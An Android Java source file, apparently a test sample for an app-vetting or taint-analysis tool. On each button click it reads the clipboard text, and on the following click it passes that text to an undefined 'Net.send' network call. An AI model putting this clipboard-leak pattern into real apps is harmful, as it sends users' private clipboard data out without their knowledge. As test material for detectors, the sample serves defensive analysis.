package org.apkvet.clip.through_click;

import android.app.*;
import android.content.*;
import android.os.*;
import android.view.*;
import android.widget.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button button = new Button(this);
        button.setOnClickListener(new Keep(this));
        setContentView(button);
    }

    static class Keep implements View.OnClickListener {
        private final Context context;
        private String before;

        Keep(Context context) {
            this.context = context;
        }

        @Override
        public void onClick(View view) {
            if (before != null) {
                Net.send(before);
            }
            before = ((ClipboardManager) context.getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
        }
    }
}
